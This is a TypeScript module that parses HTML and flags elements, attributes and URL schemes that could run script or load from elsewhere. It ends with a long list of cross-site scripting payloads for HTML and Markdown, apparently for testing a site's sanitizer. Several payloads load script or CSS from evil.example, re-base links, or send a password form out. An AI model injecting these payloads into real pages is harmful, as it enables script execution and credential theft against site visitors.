/** Looks for what could run in a page, in the tree that a browser would make of it. */
import { type DefaultTreeAdapterTypes, parse, parseFragment } from "parse5";

type Node = DefaultTreeAdapterTypes.Node;
type Element = DefaultTreeAdapterTypes.Element;

/** Elements that a page of the site never has: they run, load, or lead elsewhere. */
const FORBIDDEN: ReadonlySet<string> = new Set([
  ...["iframe", "object", "embed", "applet", "base", "style", "img", "video", "audio", "source"],
  ...["math", "foreignobject", "animate", "set", "use", "frame", "frameset", "portal", "noscript"],
]);
/** Elements that only the site itself writes, with what their targets look like. */
const OWN_TARGETS: Readonly<Record<string, RegExp>> = {
  script: /^(?:\.\/|\.\.\/|\/)assets\/[a-z]+\.[0-9a-f]{12}\.js$/,
  link: /^(?:(?:\.\/|\.\.\/|\/)[a-z]|https:\/\/site\.example\/)/,
  form: /^(?:\.\/|\.\.\/|\/)?index\.html$/,
};
const LINK = /^(?:https?:\/\/|mailto:|#|(?:\.\/|\.\.\/|\/)?[a-z0-9])/;

/** An element and its attributes. */
export interface CheckedElement {
  readonly name: string;
  readonly attributes: ReadonlyMap<string, string>;
}

function* elements(node: Node): Generator<Element> {
  if ("tagName" in node) yield node;
  if ("content" in node) yield* elements(node.content);
  if ("childNodes" in node) { for (const child of node.childNodes) yield* elements(child); }
}

function checked(element: Element): CheckedElement {
  const attributes = new Map(element.attrs.map(({ name, value }) => [name, value]));
  return { name: element.tagName.toLowerCase(), attributes };
}

/** All elements of a page. */
export function elementsOf(page: string): CheckedElement[] {
  return [...elements(parse(page))].map(checked);
}

/** All elements of a piece of a page. */
export function elementsOfFragment(piece: string): CheckedElement[] {
  return [...elements(parseFragment(piece))].map(checked);
}

function attributeProblem(name: string, value: string, element: string): string | undefined {
  if (name.startsWith("on")) return `${element} has ${name}`;
  if (["style", "srcdoc", "srcset", "formaction", "ping", "background"].includes(name)) {
    return `${element} has ${name}`;
  }
  if (name === "href" && element === "a" && !LINK.test(value)) return `a link leads to ${value}`;
  // deno-lint-ignore no-control-regex -- browsers leave them out of schemes
  const plain = value.replace(/[\s\x00-\x1f]/g, "").toLowerCase();
  const scheme = /^(?:javascript|vbscript|data|blob):/.test(plain);
  return scheme && name !== "content" ? `${element} ${name} is ${value}` : undefined;
}

/** What could run in these elements, in words; empty where nothing could. */
export function problemsOf(list: readonly CheckedElement[]): string[] {
  const problems: string[] = [];
  for (const { name, attributes } of list) {
    if (FORBIDDEN.has(name)) problems.push(`there is a ${name}`);
    const target = attributes.get("src") ?? attributes.get("href") ?? attributes.get("action");
    if (name in OWN_TARGETS && !OWN_TARGETS[name].test(target ?? "")) {
      problems.push(`there is a ${name} of ${target}`);
    }
    for (const [attribute, value] of attributes) {
      const problem = attributeProblem(attribute, value, name);
      if (problem !== undefined) problems.push(problem);
    }
    const equivalent = attributes.get("http-equiv");
    if (equivalent !== undefined && equivalent !== "Content-Security-Policy") {
      problems.push(`there is a meta of ${equivalent}`);
    }
  }
  return problems;
}

/** Texts that have run elsewhere, in HTML and in Markdown. */
export const VECTORS: readonly string[] = [
  `<script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `"><script src=//evil.example/x.js></script>`,
  `'><img src=x onerror=alert(1)>`,
  `" autofocus onfocus="alert(1)" x="`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<form action="//evil.example"><input name=password><button>go</button></form>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<details open ontoggle=alert(1)>`,
  `<template><script>alert(1)</script></template>`,
  `</template><script>alert(1)</script>`,
  `<!--><script>alert(1)</script>-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `\u2028alert(1)//`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java&#115;cript:alert(1))`,
  `[x](javascript&colon;alert(1))`,
  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))`,
  `[x](\u0001javascript:alert(1))`,
  `[x](java\nscript:alert(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `[x](//evil.example)`,
  `[x](/\\evil.example)`,
  `[x](blob:https://example.org/1)`,
  `[x](http://example.org/"onmouseover="alert(1))`,
  `[x](<http://example.org/" onmouseover="alert(1)>)`,
  `[x](http://example.org 'a" onmouseover="alert(1)')`,
  `[x]: javascript:alert(1)\n\n[x]`,
  `<javascript:alert(1)>`,
  `<https://example.org/"onmouseover="alert(1)>`,
  `![x](javascript:alert(1))`,
  `![x](https://evil.example/pixel.png)`,
  `![x](x "a\\" onerror=\\"alert(1)")`,
  `![a](b)](javascript:alert(1))`,
  `[![x](x)](javascript:alert(1))`,
  `# <img src=x onerror=alert(1)>`,
  `# x" onclick="alert(1)`,
  '```"><script>alert(1)</script>\nx\n```',
  "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
  "`</code><script>alert(1)</script>`",
  `| a |\n|---|\n| <script>alert(1)</script> |`,
  `| a" onclick="alert(1) |\n|:--:|\n| x |`,
  `> <script>alert(1)</script>`,
  `- <input onfocus=alert(1) autofocus>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<a id=main><a id=lunetteSearch name=lunettePackages>`,
  `\ud83d<script>\udc00`,
  `<script\u0000>alert(1)</script>`,
  `\${alert(1)} {{constructor.constructor('alert(1)')()}}`,
];
